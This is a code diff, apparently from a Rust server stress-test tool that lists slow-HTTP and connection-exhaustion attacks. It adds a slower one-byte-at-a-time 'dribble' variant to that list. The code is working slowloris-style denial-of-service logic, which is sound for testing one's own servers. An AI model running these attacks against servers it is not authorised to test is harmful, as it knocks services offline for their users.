@@ -42,9 +42,10 @@ pub struct Attack {
 
 impl Attack {
     /// All of them.
-    pub const ALL: [Self; 13] = [
+    pub const ALL: [Self; 14] = [
         Self { name: "idle connections, up to 5,000", run: idle },
-        Self { name: "a byte now and then, 1,000 times", run: dribble },
+        Self { name: "a byte each 100 ms, 1,000 times", run: dribble },
+        Self { name: "a byte a second, 1,000 times", run: dribble_slowly },
         Self { name: "reconnect storm", run: reconnect },
         Self { name: "requests followed by RST", run: requests_and_resets },
         Self { name: "bodies announced and never sent", run: bodies_never_sent },
@@ -91,12 +92,28 @@ fn idle(target: &Target, stop: &AtomicBool) {
 }
 
 fn dribble(target: &Target, stop: &AtomicBool) {
+    dribble_in_turns(target, stop, 1);
+}
+
+/// In each pause another tenth of them sends its byte: a thousand bytes a second.
+fn dribble_slowly(target: &Target, stop: &AtomicBool) {
+    dribble_in_turns(target, stop, 10);
+}
+
+/// Holds connections that each send a byte of a head, once in so many pauses. Those that
+/// are closed are replaced.
+fn dribble_in_turns(target: &Target, stop: &AtomicBool, turns: usize) {
     let head = b"GET / HTTP/1.1\r\nHost: h\r\nA: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
     let mut clients: Vec<(TcpStream, usize)> = Vec::new();
-    while !is_over(stop) {
+    for round in 0.. {
+        let mut place = 0;
         clients.retain_mut(|(client, sent)| {
+            place += 1;
+            if place % turns != round % turns {
+                return true;
+            }
             *sent += 1;
-            send(client, &head[*sent % head.len()..][..1])
+            send(client, &head[(*sent - 1) % head.len()..][..1])
         });
         for _ in clients.len()..HELD {
             match connect(target) {
@@ -105,6 +122,9 @@ fn dribble(target: &Target, stop: &AtomicBool) {
             }
         }
         pause();
+        if is_over(stop) {
+            return;
+        }
     }
 }
 
